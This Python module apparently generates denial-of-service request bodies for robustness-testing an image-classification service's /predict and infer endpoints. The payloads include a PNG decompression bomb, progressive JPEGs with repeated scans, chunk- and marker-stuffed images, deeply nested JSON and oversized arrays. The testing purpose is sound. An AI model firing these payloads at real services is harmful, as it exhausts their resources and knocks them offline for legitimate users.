"""Bodies that are cheap to send and dear to take: what a caller with bad intent would try on `/predict`.

Each is (path, content type, body). `scale` 1 fills the service's limit of 16 MiB where more makes it worse.
"""

import io
import json
import struct
import zlib
from collections.abc import Callable, Collection

import numpy as np
from PIL import Image

PNG, JPEG, JSON, NPY = "image/png", "image/jpeg", "application/json", "application/x-npy"
_LIMIT = 16 * 2**20 - 2048

Attack = tuple[str, str, bytes]


def chunk(kind: bytes, content: bytes = b"") -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def picture(side: int, kind: str, **options: object) -> bytes:
    """Smooth, so that a large one is a small file."""
    ramp = np.add.outer(np.arange(side), np.arange(side)) * (255 / (2 * side))
    stream = io.BytesIO()
    Image.fromarray(ramp.astype(np.uint8)).save(stream, format=kind, **options)
    return stream.getvalue()


def repeated_scans(side: int, size: int, most: int | None = None) -> bytes:
    """A progressive JPEG whose last scan comes again and again: each is a pass over all pixels."""
    body = picture(side, "JPEG", progressive=True, quality=50)
    scan = body[body.rindex(b"\xff\xda") : -2]
    times = max(1, (size - len(body)) // len(scan))
    return body[:-2] + scan * (times if most is None else min(times, most)) + b"\xff\xd9"


def _png_with(middle: bytes, side: int = 28) -> bytes:
    sound = picture(side, "PNG")
    return sound[:33] + middle + sound[33:]


def _jpeg_with(middle: bytes, side: int = 28) -> bytes:
    sound = picture(side, "JPEG")
    return sound[:2] + middle + sound[2:]


def _png_bomb(side: int, depth: int, colour: int, channels: int) -> bytes:
    """All zeros, interlaced, which compresses a thousandfold."""
    line = bytes(1 + side * channels * depth // 8)
    packer = zlib.compressobj(9)
    data = b"".join([*(packer.compress(line * 100) for _ in range(side * 2 // 100)), packer.flush()])
    header = struct.pack(">IIBBBBB", side, side, depth, colour, 0, 0, 1)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND")


def _unknown_keys(size: int) -> bytes:
    return b"{" + b",".join(b'"%x":1' % number for number in range(size // 9)) + b"}"


def _npy(array: np.ndarray) -> bytes:
    stream = io.BytesIO()
    np.save(stream, array)
    return stream.getvalue()


def attacks(
    model: str, sides: tuple[int, int] = (28, 28), scale: float = 1.0, names: Collection[str] | None = None
) -> dict[str, Attack]:
    """All, or those of these names. For a model of grey images of these sides."""
    size = int(_LIMIT * scale)
    images = max(1, min(4096, size // (4 * sides[0] * sides[1])))
    infer = f"/v2/models/{model}/infer"
    head = json.dumps({"inputs": [{"name": "image", "shape": [images, *sides], "datatype": "FP32"}]})[:-3].encode()
    makers: dict[str, Callable[[], Attack]] = {
        "JPEG of many scans": lambda: ("/predict", JPEG, repeated_scans(4000, size // 2)),
        "JPEG of 39 scans": lambda: ("/predict", JPEG, repeated_scans(4900, size, most=29)),
        "small JPEG of many scans": lambda: ("/predict", JPEG, repeated_scans(250, 60_000)),
        "JPEG of empty markers": lambda: ("/predict", JPEG, _jpeg_with(b"\xff\xfe\x00\x02" * (size // 4))),
        "JPEG of fill bytes": lambda: ("/predict", JPEG, _jpeg_with(b"\xff" * size)),
        "JPEG of escaped bytes": lambda: ("/predict", JPEG, _jpeg_with(b"\xff\x00" * (size // 2))),
        "PNG of empty chunks": lambda: ("/predict", PNG, _png_with(chunk(b"teXt") * (size // 12))),
        "PNG of empty pixel chunks": lambda: ("/predict", PNG, _png_with(chunk(b"IDAT") * (size // 12))),
        "small PNG of empty chunks": lambda: ("/predict", PNG, _png_with(chunk(b"teXt") * 5000)),
        "PNG of compressed texts": lambda: (
            "/predict",
            PNG,
            _png_with(chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(10**6))) * 100),
        ),
        "PNG bomb of 24 megapixels": lambda: ("/predict", PNG, _png_bomb(4900, 16, 2, 3)),
        "JSON of unknown keys": lambda: ("/predict", JSON, _unknown_keys(size)),
        "JSON of many images": lambda: (
            "/predict",
            JSON,
            json.dumps({"instances": np.zeros((images, *sides), int).tolist()}, separators=(",", ":")).encode(),
        ),
        "JSON of brackets": lambda: ("/predict", JSON, b'{"instances":' + b"[" * size),
        "npy of half floats": lambda: ("/predict", NPY, _npy(np.zeros((images, *sides), np.float16))),
        "npy of doubles": lambda: ("/predict", NPY, _npy(np.zeros((images // 2 or 1, *sides)))),
        "tensor of many numbers": lambda: (infer, JSON, head + b',"data":[' + b"0," * (size // 2) + b"0]}]}"),
        "tensor of unknown keys": lambda: (infer, JSON, _unknown_keys(size)),
    }
    return {name: make() for name, make in makers.items() if names is None or name in names}
